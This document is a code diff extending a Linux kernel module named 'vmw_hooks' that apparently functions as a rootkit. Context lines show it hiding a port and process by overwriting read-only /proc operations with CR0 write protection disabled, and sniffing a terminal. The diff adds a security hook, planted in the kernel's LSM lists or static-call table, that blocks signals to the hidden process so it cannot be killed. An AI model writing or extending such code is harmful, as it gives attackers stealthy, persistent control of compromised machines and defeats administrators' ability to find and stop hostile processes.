@@ -23,7 +23,12 @@
  *   of /proc's file_operations are overwritten in the kernel's read-only
  *   data, with CR0.WP cleared as rootkits do. Both are found through the
  *   files themselves (the seq_file's op, the file's f_op). Restored on
- *   rmmod.
+ *   rmmod;
+ * - with lsm_table (the address of security_hook_heads before Linux 6.12,
+ *   of static_calls_table from 6.12 on, from /proc/kallsyms), a task_kill
+ *   security hook that refuses signals to hide_pid: an entry added to the
+ *   hook's list, or the hook's last static call slot pointed at it and
+ *   enabled. Removed on rmmod.
  */
 #include <linux/module.h>
 #include <linux/version.h>
@@ -43,6 +48,9 @@
 #include <linux/seq_file.h>
 #include <linux/sched.h>
 #include <net/sock.h>
+#include <linux/lsm_hooks.h>
+#include <linux/static_call.h>
+#include <linux/jump_label.h>
 #include <asm/special_insns.h>
 
 static unsigned long keys, written, received, execs;
@@ -51,6 +59,8 @@ static int hide_port;
 module_param(hide_port, int, 0444);
 static int hide_pid;
 module_param(hide_pid, int, 0444);
+static unsigned long lsm_table;
+module_param(lsm_table, ulong, 0444);
 
 static int tty;
 module_param(tty, int, 0444);
@@ -124,18 +134,93 @@ static void find_exec_tp(struct tracepoint *tp, void *priv)
 		exec_tp = tp;
 }
 
-/* a write to read-only kernel data: CR0.WP off with interrupts off (the
+/* writes to read-only kernel data: CR0.WP off with interrupts off (the
  * kernel's own write_cr0 pins WP, so rootkits write CR0 themselves) */
-static void write_ro(void **slot, void *val)
+static unsigned long wp_off(void)
 {
 	unsigned long cr0 = native_read_cr0(), flags;
 
 	local_irq_save(flags);
 	asm volatile("mov %0, %%cr0" : : "r"(cr0 & ~X86_CR0_WP) : "memory");
-	WRITE_ONCE(*slot, val);
+	return flags;
+}
+
+static void wp_on(unsigned long flags)
+{
+	unsigned long cr0 = native_read_cr0() | X86_CR0_WP;
+
 	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
 	local_irq_restore(flags);
 }
+
+static void write_ro(void **slot, void *val)
+{
+	unsigned long flags = wp_off();
+
+	WRITE_ONCE(*slot, val);
+	wp_on(flags);
+}
+
+static int vmw_hooks_task_kill(struct task_struct *p, struct kernel_siginfo *info, int sig, const struct cred *cred)
+{
+	return sig && hide_pid && task_tgid_nr(p) == hide_pid ? -EPERM : 0;
+}
+
+#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 12, 0)
+static struct lsm_static_call *lsm_slot;
+
+static int add_lsm(void)
+{
+	struct lsm_static_calls_table *t = (void *)lsm_table;
+
+	lsm_slot = &t->task_kill[MAX_LSM_COUNT - 1];
+	if (lsm_slot->hl) {
+		lsm_slot = NULL;
+		return -EBUSY;
+	}
+	__static_call_update(lsm_slot->key, lsm_slot->trampoline, vmw_hooks_task_kill);
+	static_branch_enable(lsm_slot->active);
+	return 0;
+}
+
+static void del_lsm(void)
+{
+	if (!lsm_slot)
+		return;
+	static_branch_disable(lsm_slot->active);
+	__static_call_update(lsm_slot->key, lsm_slot->trampoline, NULL);
+	lsm_slot = NULL;
+}
+#else
+static struct security_hook_list lsm_entry;
+
+static int add_lsm(void)
+{
+	struct security_hook_heads *heads = (void *)lsm_table;
+	unsigned long flags;
+
+	lsm_entry.head = &heads->task_kill;
+	lsm_entry.hook.task_kill = vmw_hooks_task_kill;
+	lsm_entry.lsm = "vmw_hooks";
+	flags = wp_off();
+	hlist_add_tail_rcu(&lsm_entry.list, lsm_entry.head);
+	wp_on(flags);
+	return 0;
+}
+
+static void del_lsm(void)
+{
+	unsigned long flags;
+
+	if (!lsm_entry.head)
+		return;
+	flags = wp_off();
+	hlist_del_rcu(&lsm_entry.list);
+	wp_on(flags);
+	synchronize_rcu();
+	lsm_entry.head = NULL;
+}
+#endif
 
 static const char *const tcp_files[2] = { "/proc/net/tcp", "/proc/net/tcp6" };
 static struct seq_operations *tcp_ops[2];
@@ -232,6 +317,9 @@ static int __init vmw_hooks_init(void)
 	err = hide();
 	if (err)
 		goto out_hide;
+	err = lsm_table ? add_lsm() : 0;
+	if (err)
+		goto out_hide;
 	if (tty) {
 		sniffed = get_current_tty();
 		if (!sniffed) {
@@ -250,6 +338,7 @@ static int __init vmw_hooks_init(void)
 	pr_info("vmw_hooks: loaded\n");
 	return 0;
 out_hide:
+	del_lsm();
 	unhide();
 	if (exec_tp) {
 		tracepoint_probe_unregister(exec_tp, vmw_hooks_exec, NULL);
@@ -270,6 +359,7 @@ static void __exit vmw_hooks_exit(void)
 		tty_kref_put(sniffed);
 		pr_info("vmw_hooks: %lu bytes written, %lu received\n", written, received);
 	}
+	del_lsm();
 	unhide();
 	tracepoint_probe_unregister(exec_tp, vmw_hooks_exec, NULL);
 	tracepoint_synchronize_unregister();
